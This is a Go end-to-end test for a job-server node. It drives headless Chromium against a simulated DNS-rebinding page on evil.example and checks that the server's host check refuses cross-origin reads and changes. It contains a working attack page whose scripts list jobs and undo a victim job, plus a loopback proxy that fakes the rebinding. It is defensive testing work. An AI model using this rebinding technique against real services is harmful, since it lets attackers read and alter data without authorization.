package e2e

import (
	"bufio"
	"bytes"
	"context"
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// attackPage is a page of evil.example that uses the node as its own origin. Its requests are synchronous, so that the
// page has loaded when all of them are answered.
const attackPage = `<!doctype html><pre id="got"></pre><script>
function call(method, path) {
	const r = new XMLHttpRequest();
	r.open(method, path, false);
	if (method === "POST") r.setRequestHeader("Content-Type", "application/json");
	r.send(method === "POST" ? "{}" : null);
	document.getElementById("got").textContent += method + " " + path + ": " + r.status + " " + r.responseText + "\n";
}
call("GET", "/v1/jobs");
call("POST", "/v1/jobs/victim/undo");
</script>`

// F160: in a real browser, a page whose host name resolves to the node reads nothing and changes nothing. With the
// check disabled it does both, so that this test shows the attack.
func TestDNSRebindingIsRefused(t *testing.T) {
	chromium := lookChromium(t)
	for _, c := range []struct {
		name   string
		args   []string
		served bool
	}{
		{"by default", nil, false},
		{"with other hosts allowed", []string{"--insecure", "--public-url", "https://jobs.example.com", "--allowed-hosts", "example,other.example"}, false},
		{"with the check disabled", []string{"--allowed-hosts", "*"}, true},
	} {
		t.Run(c.name, func(t *testing.T) {
			url, _ := serve(t, append(c.args, "--store", "sqlite:"+filepath.Join(t.TempDir(), "perdure.db"))...)
			file := filepath.Join(t.TempDir(), "victim.json")
			if err := os.WriteFile(file, []byte(`{"type": "secret-order", "key": "victim", "steps": {"wait": {"agent": "sleep", "with": {"for": "1h"}}}}`), 0o600); err != nil {
				t.Fatal(err)
			}
			must(t, "submit", file, "--server", url)

			page := browse(t, chromium, rebound(t, strings.TrimPrefix(url, "http://")))
			if !strings.Contains(page, "GET /v1/jobs: ") || !strings.Contains(page, "POST /v1/jobs/victim/undo: ") {
				t.Fatalf("the page did not make its requests: %s", page)
			}
			if read := strings.Contains(page, "secret-order"); read != c.served {
				t.Errorf("the page has read the jobs: %v\n%s", read, page)
			}
			if n := strings.Count(page, ": 421 "); (n == 2) == c.served || !c.served && strings.Count(page, `"code":"misdirected"`) != 2 {
				t.Errorf("%d of 2 requests were refused:\n%s", n, page)
			}
			if undone := strings.Contains(must(t, "get", "victim", "-o", "json", "--server", url), `"desired":"undone"`); undone != c.served {
				t.Errorf("the page has undone the job: %v\n%s", undone, page)
			}
		})
	}
}

func lookChromium(t *testing.T) string {
	t.Helper()
	for _, name := range []string{"chromium", "chromium-browser", "google-chrome"} {
		if path, err := exec.LookPath(name); err == nil {
			return path
		}
	}
	if os.Getenv("PERDURE_TEST_REQUIRE_CHROMIUM") != "" {
		t.Fatal("Chromium is required and not installed (scripts/setup installs it)")
	}
	t.Skip("Chromium is not installed")
	return ""
}

// rebound is the address of evil.example: it answers the first request with the page, and forwards all later ones to
// the node. This simulates a second resolution of the name. Requests of the browser are forwarded unchanged.
func rebound(t *testing.T, node string) (addr string) {
	t.Helper()
	listener, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { listener.Close() })
	go func() {
		for {
			conn, err := listener.Accept()
			if err != nil {
				return
			}
			go pageOrNode(conn, node)
		}
	}()
	return listener.Addr().String()
}

func pageOrNode(conn net.Conn, node string) {
	defer conn.Close()
	from := bufio.NewReader(conn)
	const first = "GET /attack "
	if line, err := from.Peek(len(first)); err != nil {
		return
	} else if string(line) == first {
		for line := ""; line != "\r\n"; { // read the whole request, otherwise a reset may discard the answer
			if line, err = from.ReadString('\n'); err != nil {
				return
			}
		}
		fmt.Fprintf(conn, "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: %d\r\nConnection: close\r\n\r\n%s", len(attackPage), attackPage)
		return
	}
	to, err := net.Dial("tcp", node)
	if err != nil {
		return
	}
	defer to.Close()
	go func() { _, _ = io.Copy(to, from) }()
	_, _ = io.Copy(conn, to)
}

// browse returns the page of evil.example after its scripts have run, in a browser for which that name resolves to
// addr.
func browse(t *testing.T, chromium, addr string) string {
	t.Helper()
	profile, err := os.MkdirTemp("", "perdure-chromium-")
	if err != nil {
		t.Fatal(err)
	}
	defer os.RemoveAll(profile) // not t.TempDir: a process of the browser that is just ending may still write
	ctx, cancel := context.WithTimeout(t.Context(), 2*time.Minute)
	defer cancel()
	cmd := exec.CommandContext(ctx, chromium, "--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run",
		"--disable-background-networking", "--disable-features=HttpsUpgrades", "--user-data-dir="+profile,
		"--host-resolver-rules=MAP evil.example "+addr, "--dump-dom", "http://evil.example/attack")
	var out, log bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &log
	cmd.WaitDelay = 5 * time.Second
	if err := cmd.Run(); err != nil {
		t.Fatalf("%s: %v\n%s", chromium, err, tail(log.String()))
	}
	return out.String()
}
